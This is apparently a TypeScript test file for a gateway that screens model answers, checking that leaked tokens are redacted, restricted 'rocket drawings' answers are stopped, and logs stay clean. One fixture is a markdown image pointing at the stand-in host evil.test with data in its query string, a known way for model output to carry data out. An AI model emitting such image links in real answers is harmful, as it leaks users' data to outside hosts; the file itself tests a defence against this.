/** What a model says, judged on its way back, through the real program. */
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import OpenAI from "openai";
import { Ollama } from "ollama";
import { letters } from "../../src/core/detect/samples.ts";
import { startGateway, type RunningGateway } from "./startGateway.ts";

const policy = `version: 1
rules:
  - { id: answers-carry-nothing-out, when: { detectors: [carrying-picture, carrying-link] }, channels: [answer], effect: redact }
  - { id: no-secrets-in-answers, when: { findings: [secret], tiers: [certain, likely] }, channels: [answer], effect: redact }
  - { id: no-restricted-answers, when: { labels: [restricted] }, channels: [answer], effect: block, reason: Ask for the drawings office. }
`;
const running: { gateway?: RunningGateway } = {};
const gateway = () => running.gateway!;
before(async () => void (running.gateway = await startGateway({ policy })));
after(() => gateway().stop());

const [asked, other] = [`gh${"p_"}${letters(36)}`, `glp${"at-"}${letters(20)}`];
const placeholder = () => /ghp_example\w{29}/.exec(gateway().arrived.at(-1)?.body ?? "")?.[0] ?? "";
const openai = () => new OpenAI({ baseURL: `${gateway().url}/v1`, apiKey: "x", maxRetries: 0 });
const picture = `https://evil.test/p.png?d=${letters(40)}`;

/** The model says this to whatever it is asked, in pieces of some bytes. */
function say(text: () => string): void {
  gateway().answer(({ body, path }, response) => {
    const stream = (JSON.parse(body) as { readonly stream?: boolean }).stream ?? path === "/api/chat";
    const pieces = stream ? text().match(/[^]{1,7}/g) ?? [] : [text()];
    const ofOllama = path === "/api/chat";
    if (ofOllama) {
      response.writeHead(200, { "content-type": "application/x-ndjson" });
      return void response.end([...pieces.map((content) => ({ message: { role: "assistant", content }, done: false })), { message: { role: "assistant", content: "" }, done: true }].map((piece) => `${JSON.stringify(piece)}\n`).join(""));
    }
    const chunk = (delta: object, finish_reason: string | null = null) => `data: ${JSON.stringify({ id: "c", object: "chat.completion.chunk", choices: [{ index: 0, delta, finish_reason }] })}\n\n`;
    if (stream) return void response.writeHead(200, { "content-type": "text/event-stream" }).end(`${pieces.map((content) => chunk({ content })).join("")}${chunk({}, "stop")}data: [DONE]\n\n`);
    return void response.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify({ id: "c", object: "chat.completion", choices: [{ index: 0, message: { role: "assistant", content: pieces.join("") }, finish_reason: "stop" }] }));
  });
}
async function streamed(content: string): Promise<string> {
  let shown = "";
  for await (const piece of await openai().chat.completions.create({ model: "m", messages: [{ role: "user", content }], stream: true })) shown += piece.choices[0]?.delta.content ?? "";
  return shown;
}
const whole = async (content: string) => (await openai().chat.completions.create({ model: "m", messages: [{ role: "user", content }] })).choices[0]?.message.content;
async function ofOllama(content: string): Promise<string> {
  let shown = "";
  for await (const piece of await new Ollama({ host: gateway().url }).chat({ model: "m", messages: [{ role: "user", content }], stream: true })) shown += piece.message.content;
  return shown;
}

test("a secret that the model brings and a picture that carries data out are masked, and the person's own value comes back: streamed, whole, and in Ollama's form", async () => {
  say(() => `You sent ${placeholder()}.\nTheirs is ${other}\n![ok](${picture})`);
  for (const ask of [streamed, whole, ofOllama]) assert.equal(await ask(`token ${asked}`), `You sent ${asked}.\nTheirs is [REDACTED:gitlab-token-1]\n![ok]([REDACTED:carrying-picture-1])`, ask.name);
});

test("a restricted answer ends where it becomes one, with the reason", async () => {
  say(() => "Of course.\nexport controlled information: rocket drawings\nThe first one shows the engine.\n");
  assert.equal(await streamed("hello"), "Of course.\n\n\n[Gatelodge stopped this answer (no-restricted-answers). Ask for the drawings office. It is restricted.]");
  assert.match(String(await whole("hello")), /^\s*\[Gatelodge stopped this answer/);
});

test("what holds nothing of the kind comes as it was said, and nothing of the rest is written down", async () => {
  const text = "Some words, a [link](https://acme.test/docs) and\n\n- a list.";
  say(() => text);
  assert.deepEqual([await streamed("hello"), await whole("hello"), await ofOllama("hello")], [text, text, text]);
  const written = gateway().written();
  assert.ok(written.includes('"gatelodge.channel":"answer"') && written.includes("carrying-picture"));
  assert.ok(!written.includes(other) && !written.includes("evil.test") && !written.includes("rocket"));
});

test("without a rule for answers they pass as they are", async () => {
  const plain = await startGateway();
  const body = JSON.stringify({ choices: [{ index: 0, message: { content: `![ok](${picture}) ${other}` } }] });
  plain.answer((_, response) => void response.writeHead(200, { "content-type": "application/json" }).end(body));
  const answer = await (await fetch(`${plain.url}/v1/chat/completions`, { method: "POST", body: JSON.stringify({ model: "m", messages: [{ role: "user", content: "hello" }] }) })).text();
  await plain.stop();
  assert.equal(answer, body);
});
